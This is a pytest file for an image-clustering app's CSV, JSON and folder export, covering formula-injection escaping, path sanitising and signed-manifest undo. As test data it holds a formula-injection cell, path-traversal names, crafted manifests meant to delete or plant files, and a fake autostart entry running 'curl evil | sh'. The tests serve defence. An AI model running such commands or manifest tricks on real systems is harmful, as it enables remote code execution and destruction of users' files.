"""Exports: CSV/JSON content and safety (formula injection, atomic writes) and folder export + undo."""

from __future__ import annotations

import csv
import errno
import json
import os
import stat
import urllib.parse
from pathlib import Path

import numpy as np
import pytest

from imgcluster_gui.core import export, storage
from imgcluster_gui.core.export import (
    ExportError,
    escape_formula,
    export_csv,
    export_folders,
    export_json,
    safe_folder_name,
    undo_export,
    unescape_formula,
)


@pytest.fixture(autouse=True)
def data_dir(tmp_path_factory, monkeypatch) -> Path:
    """The app's data folder (it holds the manifest signing key), private to each test."""
    folder = tmp_path_factory.mktemp("data")
    monkeypatch.setenv(storage.DATA_ENV_VAR, str(folder))
    return folder


@pytest.fixture
def images(tmp_path: Path) -> list[Path]:
    """Five small files, two of them with the same name in different folders."""
    root = tmp_path / "src"
    files = [root / "a" / "img.png", root / "b" / "img.png", root / "b" / "x.jpg", root / "c.png", root / "=d.png"]
    for i, f in enumerate(files):
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_bytes(f"content {i}".encode() * (i + 1))
    return files


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_has_one_row_per_image_with_every_column(tmp_path, images):
    out = tmp_path / "labels.csv"
    labels = np.array([0, 0, 1, -1, 1])
    export_csv(
        out,
        images,
        labels,
        cluster_names={1: "Dogs"},
        confidence=[0.9, 0.8, np.nan, 0.1, 1.0],
        embedding=np.arange(10).reshape(5, 2) * 0.5,
        root=tmp_path / "src",
    )
    rows = _read_csv(out)
    assert [r["relative_path"] for r in rows] == ["a/img.png", "b/img.png", "b/x.jpg", "c.png", "'=d.png"]
    assert [r["cluster_id"] for r in rows] == ["0", "0", "1", "-1", "1"]
    assert [r["cluster_name"] for r in rows] == ["Cluster 0", "Cluster 0", "Dogs", "Unassigned", "Dogs"]
    assert rows[2]["confidence"] == "" and rows[0]["confidence"] == "0.9"
    assert (rows[1]["x"], rows[1]["y"]) == ("1.0", "1.5")
    assert rows[0]["path"] == str(images[0])


def test_csv_escapes_formula_cells_but_not_numbers(tmp_path):
    out = tmp_path / "x.csv"
    names = {0: '=HYPERLINK("http://evil")', 1: "+1", 2: "@SUM(A1)", 3: "-2", 4: "\tTab", 5: "plain"}
    export_csv(
        out, [f"/p/{i}.png" for i in range(6)], list(range(6)), cluster_names=names, embedding=[[-1.5, -2.0]] * 6
    )
    rows = _read_csv(out)
    assert [r["cluster_name"] for r in rows] == ["'" + names[i] for i in range(5)] + ["plain"]
    assert rows[0]["x"] == "-1.5"  # numbers are not text a spreadsheet evaluates: left alone
    assert escape_formula("\rcmd") == "'\rcmd" and escape_formula("a=b") == "a=b"


def test_json_export_has_the_same_data(tmp_path, images):
    out = tmp_path / "labels.json"
    export_json(out, images, [0, 0, 1, 1, -1], cluster_names={0: "Café"}, root=tmp_path / "src")
    doc = json.loads(out.read_text(encoding="ascii"))
    assert doc["clusters"] == {
        "-1": {"name": "Unassigned", "size": 1},
        "0": {"name": "Café", "size": 2},
        "1": {"name": "Cluster 1", "size": 2},
    }
    assert [r["relative_path"] for r in doc["images"]][:2] == ["a/img.png", "b/img.png"]
    assert doc["images"][0]["x"] is None and doc["images"][0]["cluster_id"] == 0


def test_non_utf8_names_round_trip_exactly(tmp_path):
    raw = os.fsdecode(os.fsencode(tmp_path) + b"/bad_\xff 100%.png")
    good = os.fspath(tmp_path / "Café 100%.png")
    export_csv(tmp_path / "x.csv", [raw, good], [0, 0], root=tmp_path)
    export_json(tmp_path / "x.json", [raw], [0])
    # The whole CSV is strict UTF-8 (it was not: the name's raw byte was written as it is).
    text = (tmp_path / "x.csv").read_bytes().decode("utf-8", errors="strict")
    escaped, plain = list(csv.DictReader(text.splitlines()))
    assert escaped["path_escaped"] == "1" and plain["path_escaped"] == "0"
    # Percent-escaped bytes: reversible exactly, the "%" of the name included.
    assert urllib.parse.unquote_to_bytes(escaped["path"]) == os.fsencode(raw)
    assert urllib.parse.unquote_to_bytes(escaped["relative_path"]) == b"bad_\xff 100%.png"
    assert (plain["path"], plain["relative_path"]) == (good, "Café 100%.png")  # others stay readable
    assert json.loads((tmp_path / "x.json").read_text())["images"][0]["path"] == raw


def test_formula_escape_is_reversible_for_names_that_start_with_an_apostrophe(tmp_path):
    names = {0: "=SUM(A1)", 1: "'=SUM(A1)", 2: "''+1", 3: "'plain", 4: "plain"}
    written = {0: "'=SUM(A1)", 1: "''=SUM(A1)", 2: "'''+1", 3: "'plain", 4: "plain"}
    for cluster, name in names.items():
        assert escape_formula(name) == written[cluster]
        assert unescape_formula(escape_formula(name)) == name
    export_csv(tmp_path / "x.csv", [f"/p/{i}.png" for i in range(5)], list(range(5)), cluster_names=names)
    rows = _read_csv(tmp_path / "x.csv")
    assert [r["cluster_name"] for r in rows] == [written[i] for i in range(5)]
    # "=x" and a real "'=x" no longer come out the same, and each reads back as itself.
    assert [unescape_formula(r["cluster_name"]) for r in rows] == [names[i] for i in range(5)]


def test_table_write_is_atomic(tmp_path, monkeypatch):
    out = tmp_path / "labels.csv"
    out.write_text("previous content")

    def broken_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", broken_replace)
    with pytest.raises(OSError):
        export_csv(out, ["/a.png"], [0])
    assert out.read_text() == "previous content"  # the old file is intact
    assert [p.name for p in tmp_path.iterdir()] == ["labels.csv"]  # and no temporary file is left


@pytest.mark.parametrize(
    "kwargs,message",
    [
        (dict(labels=[0]), "2 paths but 1 labels"),
        (dict(labels=[0, 1], confidence=[1.0]), "confidence"),
        (dict(labels=[0, 1], embedding=np.zeros((2, 1))), "embedding"),
    ],
)
def test_mismatched_lengths_are_export_errors(tmp_path, kwargs, message):
    with pytest.raises(ExportError, match=message):
        export_csv(tmp_path / "x.csv", ["/a", "/b"], **kwargs)
    assert not (tmp_path / "x.csv").exists()


def test_missing_output_folder_is_an_export_error(tmp_path):
    with pytest.raises(ExportError, match="Folder not found"):
        export_csv(tmp_path / "nope" / "x.csv", ["/a"], [0])


# ---------------------------------------------------------------- folders


@pytest.mark.parametrize(
    "name,expected",
    [
        ("../../etc", "_.._etc"),
        ("a/b\\c", "a_b_c"),
        ("..", "cluster_7"),
        ("  ", "cluster_7"),
        (".hidden", "hidden"),
        ("CON", "_CON"),
        ("trailing. ", "trailing"),
        ("Chats 🐱", "Chats 🐱"),
    ],
)
def test_safe_folder_name(name, expected):
    assert safe_folder_name(name, "cluster_7") == expected


def test_copy_export_handles_collisions_and_never_overwrites(tmp_path, images):
    target = tmp_path / "out"
    (target / "Cluster 0").mkdir(parents=True)
    (target / "Cluster 0" / "img.png").write_bytes(b"already here")
    result = export_folders(target, images, [0, 0, 1, 1, 1], cluster_names={1: "../evil"})
    assert result.n_done == 5 and not result.failed
    tree = _snapshot(target)
    assert tree["Cluster 0/img.png"] == b"already here"
    assert tree["Cluster 0/img_1.png"] == images[0].read_bytes()
    assert tree["Cluster 0/img_2.png"] == images[1].read_bytes()
    assert {k for k in tree if k.startswith("_evil/")} == {"_evil/x.jpg", "_evil/c.png", "_evil/=d.png"}
    assert not (tmp_path / "evil").exists()
    assert all(f.exists() for f in images)  # copying leaves the sources in place
    # Duplicate cluster names get distinct folders.
    again = export_folders(tmp_path / "dup", images[:2], [0, 1], cluster_names={0: "Same", 1: "same"})
    assert sorted(p.name for p in (tmp_path / "dup").iterdir() if p.is_dir()) == ["Same", "same_1"]
    assert again.n_done == 2


def test_move_is_refused_without_consent(tmp_path, images):
    with pytest.raises(ExportError, match="allow_move"):
        export_folders(tmp_path / "out", images, [0] * 5, mode="move")
    assert not (tmp_path / "out").exists() and all(f.exists() for f in images)
    with pytest.raises(ExportError, match="Unknown export mode"):
        export_folders(tmp_path / "out", images, [0] * 5, mode="hardlink")


def test_move_then_undo_restores_every_file_exactly(tmp_path, images):
    source_root = tmp_path / "src"
    before = _snapshot(source_root)
    target = tmp_path / "out"
    result = export_folders(target, images, [0, 0, 1, -1, 1], mode="move", allow_move=True)
    assert result.n_done == 5 and not any(f.exists() for f in images)
    manifest = json.loads(result.manifest_path.read_text())
    assert [Path(e["source"]) for e in manifest["entries"]] == [f.absolute() for f in images]
    assert all(Path(e["destination"]).exists() for e in manifest["entries"])

    undo = undo_export(result.manifest_path)
    assert undo.restored == 5 and not undo.problems
    assert _snapshot(source_root) == before
    # Cluster folders it made are gone; only the manifest (now marked undone) is left.
    assert [p.name for p in target.iterdir()] == [result.manifest_path.name]
    assert json.loads(result.manifest_path.read_text())["undone"] is True
    assert undo_export(result.manifest_path).restored == 0  # a second undo changes nothing


def test_undo_never_overwrites_a_file_that_came_back(tmp_path, images):
    result = export_folders(tmp_path / "out", images[:1], [0], mode="move", allow_move=True)
    images[0].write_bytes(b"new file at the old place")
    undo = undo_export(result.manifest_path)
    assert undo.restored == 0 and len(undo.problems) == 1
    assert images[0].read_bytes() == b"new file at the old place"
    assert Path(result.entries[0].destination).exists()


def test_undo_removes_copies_and_links_but_keeps_edited_copies(tmp_path, images):
    copies = export_folders(tmp_path / "copies", images, [0, 0, 1, 1, 1])
    edited = Path(copies.entries[2].destination)
    edited.write_bytes(b"the user changed this copy")
    undo = undo_export(copies.manifest_path)
    assert undo.removed == 4 and len(undo.problems) == 1 and edited.exists()
    assert all(f.exists() for f in images)

    links = export_folders(tmp_path / "links", images, [0, 0, 1, 1, 1], mode="symlink")
    assert all(
        Path(e.destination).is_symlink() and Path(e.destination).resolve() == Path(e.source).resolve()
        for e in links.entries
    )
    assert undo_export(links.manifest_path).removed == 5
    assert not any(p.is_dir() for p in (tmp_path / "links").iterdir())
    assert all(f.exists() for f in images)


def test_missing_source_is_reported_and_the_rest_exported(tmp_path, images):
    images[1].unlink()
    result = export_folders(tmp_path / "out", images, [0] * 5)
    assert result.n_done == 4
    assert [Path(f.path).name for f in result.failed] == ["img.png"] and "not found" in result.failed[0].reason


def test_unwritable_or_file_target_fails_before_anything_is_written(tmp_path, images, monkeypatch):
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError, match="is a file"):
        export_folders(tmp_path / "file", images, [0] * 5)
    target = tmp_path / "ro"
    target.mkdir()

    def refuse(*args, **kwargs):  # root ignores chmod: simulate a read-only target instead
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(export.tempfile, "mkstemp", refuse)
    with pytest.raises(ExportError, match="Cannot write in"):
        export_folders(target, images, [0] * 5, mode="move", allow_move=True)
    assert list(target.iterdir()) == [] and all(f.exists() for f in images)


def test_undo_rejects_a_corrupt_or_foreign_manifest(tmp_path):
    (tmp_path / "bad.json").write_text("{not json")
    with pytest.raises(ExportError, match="corrupt"):
        undo_export(tmp_path / "bad.json")
    (tmp_path / "other.json").write_text('{"hello": 1}')
    with pytest.raises(ExportError, match="Not an imgcluster export manifest"):
        undo_export(tmp_path / "other.json")
    with pytest.raises(ExportError, match="not found"):
        undo_export(tmp_path / "missing.json")


def test_written_tables_get_ordinary_permissions_not_private_temp_ones(tmp_path):
    out = export_csv(tmp_path / "x.csv", ["/a.png"], [0])
    assert out.stat().st_mode & 0o777 == storage._NEW_FILE_MODE
    os.chmod(out, 0o640)
    export_json(tmp_path / "x.csv", ["/a.png"], [0])
    assert out.stat().st_mode & 0o777 == 0o640  # replacing keeps the file's own permissions


def test_a_dated_sub_folder_never_reuses_an_existing_one(tmp_path):
    import datetime

    when = datetime.datetime(2026, 12, 3, 14, 5)
    assert not export.folder_has_entries(tmp_path / "missing")
    assert not export.folder_has_entries(tmp_path)
    first = export.dated_subfolder(tmp_path, when)
    assert first == tmp_path / "clusters-2026-12-03_1405" and not first.exists()
    first.mkdir()
    assert export.folder_has_entries(tmp_path)
    assert export.dated_subfolder(tmp_path, when) == tmp_path / "clusters-2026-12-03_1405_1"


# ---------------------------------------------------------------- undo obeys only the app's own manifests


class _Hostile:
    """Files a crafted manifest would harm: a victim file, an unrelated link, a folder for an autostart entry."""

    def __init__(self, root: Path) -> None:
        self.home = root / "home"
        self.home.mkdir()
        self.victim = self.home / "notes.txt"
        self.victim.write_bytes(b"precious")
        self.link = self.home / "shortcut"
        self.link.symlink_to(self.victim)
        self.autostart = self.home / ".config" / "autostart" / "evil.desktop"

    def untouched(self) -> bool:
        return (
            self.victim.read_bytes() == b"precious" and self.link.is_symlink() and not (self.home / ".config").exists()
        )


def _hostile_entries(payload: Path, hostile: _Hostile) -> list[dict[str, str]]:
    return [
        # "move back" a payload the attacker placed in the export folder into an autostart folder
        {"source": str(hostile.autostart), "destination": str(payload), "mode": "move", "status": "done"},
        # a "copy" whose source is its destination: undo would delete the original
        {"source": str(hostile.victim), "destination": str(hostile.victim), "mode": "copy", "status": "done"},
        # a "link" that is any link on the disk
        {"source": str(hostile.victim), "destination": str(hostile.link), "mode": "symlink", "status": "done"},
    ]


def _payload(target: Path) -> Path:
    payload = target / "Cluster 0" / "evil.desktop"
    payload.parent.mkdir(parents=True)
    payload.write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    return payload


@pytest.mark.parametrize(
    "version,signature,message",
    [
        (1, None, "older imgcluster, before manifests were signed"),  # today's unsigned format
        (2, None, "not written by imgcluster on this account, or it was changed"),
        (2, "hmac-sha256:" + "0" * 64, "not written by imgcluster on this account, or it was changed"),
    ],
)
def test_undo_refuses_a_crafted_manifest_before_touching_anything(tmp_path, version, signature, message):
    hostile = _Hostile(tmp_path)
    target = tmp_path / "export"
    payload = _payload(target)
    manifest = {
        "version": version,
        "kind": "imgcluster folder export",
        "target": str(target),
        "target_real": str(target),
        "mode": "move",
        "folders": ["Cluster 0"],
        "created_folders": ["Cluster 0"],
        "undone": False,
        "entries": _hostile_entries(payload, hostile),
    }
    if signature is not None:
        manifest["signature"] = signature
    path = target / "imgcluster-export-20261203-140000.json"
    path.write_text(json.dumps(manifest))
    with pytest.raises(ExportError, match=message):
        undo_export(path)
    assert hostile.untouched() and payload.exists()


def test_undo_refuses_a_manifest_changed_after_the_export(tmp_path, images):
    hostile = _Hostile(tmp_path)
    result = export_folders(tmp_path / "out", images[:1], [0])
    data = json.loads(result.manifest_path.read_text())
    data["entries"].append({"source": str(hostile.victim), "destination": str(hostile.victim), "mode": "copy"})
    data["entries"][-1]["status"] = "done"
    result.manifest_path.write_text(json.dumps(data, indent=1))
    with pytest.raises(ExportError, match="not written by imgcluster on this account, or it was changed"):
        undo_export(result.manifest_path)
    assert hostile.untouched() and Path(result.entries[0].destination).exists()  # nothing was undone


def _signed(target: Path, mode: str, entries: list[dict[str, str]], folders=("Cluster 0",)) -> Path:
    """A manifest signed with this account's key but holding entries no export of ours would write."""
    data = {
        "version": export.MANIFEST_VERSION,
        "kind": export.MANIFEST_KIND,
        "target": str(target),
        "target_real": os.path.realpath(target),
        "mode": mode,
        "folders": list(folders),
        "created_folders": list(folders),
        "undone": False,
        "entries": entries,
    }
    path = target / "imgcluster-export-signed.json"
    path.write_text(json.dumps(export.sign_manifest(data)))
    return path


def test_even_a_signed_manifest_only_touches_what_the_export_made_inside_its_folders(tmp_path):
    hostile = _Hostile(tmp_path)
    target = tmp_path / "export"
    payload = _payload(target)
    inside = target / "Cluster 0" / "mine.png"
    inside.write_bytes(b"a file the user keeps in the export")
    move, copy, link = _hostile_entries(payload, hostile)
    escape = dict(move, destination=str(target / "Cluster 0" / ".." / ".." / "home" / "notes.txt"))
    undo = undo_export(_signed(target, "move", [move, escape]))
    assert undo.restored == 0 and len(undo.problems) == 2
    assert "undo creates no folders" in undo.problems[0].reason  # no parents made outside the target
    assert "not inside the export's cluster folders" in undo.problems[1].reason

    same = dict(copy, source=str(inside), destination=str(inside))
    undo = undo_export(_signed(target, "copy", [copy, same]))
    assert undo.removed == 0 and [p.reason for p in undo.problems] == [
        f"not inside the export's cluster folders in {target}: left alone",
        "its source and its destination are the same file: left alone",
    ]
    assert undo_export(_signed(target, "symlink", [link])).removed == 0
    assert hostile.untouched() and payload.exists() and inside.exists()


def test_undo_does_not_follow_a_cluster_folder_that_became_a_link(tmp_path, images):
    result = export_folders(tmp_path / "out", images[3:], [0, 0])
    folder = tmp_path / "out" / "Cluster 0"
    elsewhere = tmp_path / "elsewhere"
    folder.rename(elsewhere)  # the same copies, same sizes and times: undo would have deleted them
    folder.symlink_to(elsewhere, target_is_directory=True)
    undo = undo_export(result.manifest_path)
    assert undo.removed == 0 and len(undo.problems) == 2
    assert all("now leads outside the export folder" in p.reason for p in undo.problems)
    assert sorted(p.name for p in elsewhere.iterdir()) == ["=d.png", "c.png"]


def test_undo_refuses_when_the_export_folder_now_leads_elsewhere(tmp_path, images):
    result = export_folders(tmp_path / "out", images[:2], [0, 0])
    (tmp_path / "out").rename(tmp_path / "elsewhere")
    (tmp_path / "out").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(ExportError, match="now leads to .*nothing was undone"):
        undo_export(result.manifest_path)
    assert len(list((tmp_path / "elsewhere" / "Cluster 0").iterdir())) == 2


def test_manifests_are_signed_with_a_private_per_user_key_made_once(tmp_path, images, data_dir):
    first = export_folders(tmp_path / "one", images[:1], [0])
    key = data_dir / export.MANIFEST_KEY_FILE
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_bytes()) == 32
    before = key.read_bytes()
    second = export_folders(tmp_path / "two", images[:1], [0])
    assert key.read_bytes() == before  # one key, reused
    for result in (first, second):
        assert json.loads(result.manifest_path.read_text())["signature"].startswith("hmac-sha256:")
    # Another account (another key) cannot undo this one's exports: its manifest is not its own.
    key.unlink()
    with pytest.raises(ExportError, match="not written by imgcluster on this account"):
        undo_export(first.manifest_path)


def test_undo_of_a_move_never_creates_the_folder_the_file_came_from(tmp_path):
    source = tmp_path / "src" / "trip" / "a.png"
    source.parent.mkdir(parents=True)
    source.write_bytes(b"photo")
    result = export_folders(tmp_path / "out", [source], [0], mode="move", allow_move=True)
    source.parent.rmdir()  # the user tidied up the emptied folder
    undo = undo_export(result.manifest_path)
    assert undo.restored == 0 and "undo creates no folders" in undo.problems[0].reason
    assert not source.parent.exists() and Path(result.entries[0].destination).read_bytes() == b"photo"


# ---------------------------------------------------------------- folder export: names, links, crashes


@pytest.mark.parametrize("stem", ["a" * 250, "é" * 125], ids=["ascii", "two-byte"])
def test_a_collision_suffix_keeps_a_long_name_within_255_bytes(tmp_path, stem):
    name = stem + ".png"
    assert len(name.encode()) == 254
    sources = [tmp_path / "src" / folder / name for folder in ("a", "b")]
    for i, source in enumerate(sources):
        source.parent.mkdir(parents=True)
        source.write_bytes(b"x" * (i + 1))
    result = export_folders(tmp_path / "out", sources, [0, 0])
    assert result.n_done == 2 and not result.failed
    second = Path(result.entries[1].destination).name
    assert second.endswith("_1.png") and len(second.encode()) <= 255
    assert second.encode().decode("utf-8") == second  # shortened on a character boundary
    assert len(safe_folder_name("🐱" * 100, "x").encode()) <= 200  # 100 cats were 400 bytes


def test_moving_a_relative_symlink_keeps_it_leading_to_its_file(tmp_path):
    real = tmp_path / "src" / "real" / "img.png"
    real.parent.mkdir(parents=True)
    real.write_bytes(b"the photo")
    link = tmp_path / "src" / "links" / "img.png"
    link.parent.mkdir()
    link.symlink_to("../real/img.png")
    result = export_folders(tmp_path / "out", [link], [0], mode="move", allow_move=True)
    moved = Path(result.entries[0].destination)
    assert result.n_done == 1 and moved.is_symlink() and not os.path.lexists(link)
    assert moved.read_bytes() == b"the photo"  # it resolves (it dangled: "../real/img.png" from out/Cluster 0)
    undo = undo_export(result.manifest_path)
    assert undo.restored == 1 and not undo.problems
    assert os.readlink(link) == "../real/img.png" and not os.path.lexists(moved)  # the original link, exactly
    assert real.read_bytes() == b"the photo"


class _Killed(BaseException):
    """Stands for a kill -9 at that instant (nothing after it runs for that file)."""


def test_undo_removes_the_placeholder_an_interrupted_move_left(tmp_path, images, monkeypatch):
    real_replace = os.replace

    def killed_while_moving(src, dst, *args, **kwargs):
        if Path(src) == images[0]:
            raise _Killed
        return real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(export.os, "replace", killed_while_moving)
    with pytest.raises(_Killed):
        export_folders(tmp_path / "out", images[:1], [0], mode="move", allow_move=True)
    monkeypatch.setattr(export.os, "replace", real_replace)
    manifest = next((tmp_path / "out").glob("imgcluster-export-*.json"))
    placeholder = tmp_path / "out" / "Cluster 0" / "img.png"
    assert placeholder.stat().st_size == 0 and images[0].exists()

    undo = undo_export(manifest)
    assert not undo.problems  # it said "a file is back at the original place" and kept the placeholder
    assert (undo.restored, undo.removed) == (0, 1) and not placeholder.exists()
    assert len(undo.notes) == 1 and "placeholder of an interrupted move" in undo.notes[0].reason
    assert images[0].read_bytes() == b"content 0"


def test_a_move_across_file_systems_syncs_the_copy_before_removing_the_source(tmp_path, images, monkeypatch):
    real_replace, real_fsync, real_unlink = os.replace, os.fsync, os.unlink
    calls: list[tuple[str, object]] = []

    def other_file_system(src, dst, *args, **kwargs):
        if Path(src) == images[0]:
            raise OSError(errno.EXDEV, "Invalid cross-device link")
        return real_replace(src, dst, *args, **kwargs)

    def fsync(fd):
        calls.append(("fsync", os.fstat(fd).st_ino))
        return real_fsync(fd)

    def unlink(path, *args, **kwargs):
        calls.append(("unlink", Path(path)))
        return real_unlink(path, *args, **kwargs)

    monkeypatch.setattr(export.os, "replace", other_file_system)
    monkeypatch.setattr(export.os, "fsync", fsync)
    monkeypatch.setattr(export.os, "unlink", unlink)
    result = export_folders(tmp_path / "out", images[:1], [0], mode="move", allow_move=True)
    monkeypatch.undo()
    copy = Path(result.entries[0].destination)
    assert result.n_done == 1 and copy.read_bytes() == b"content 0" and not images[0].exists()
    removed_at = calls.index(("unlink", images[0]))
    synced = {value for kind, value in calls[:removed_at] if kind == "fsync"}
    assert copy.stat().st_ino in synced and copy.parent.stat().st_ino in synced  # the file and its folder
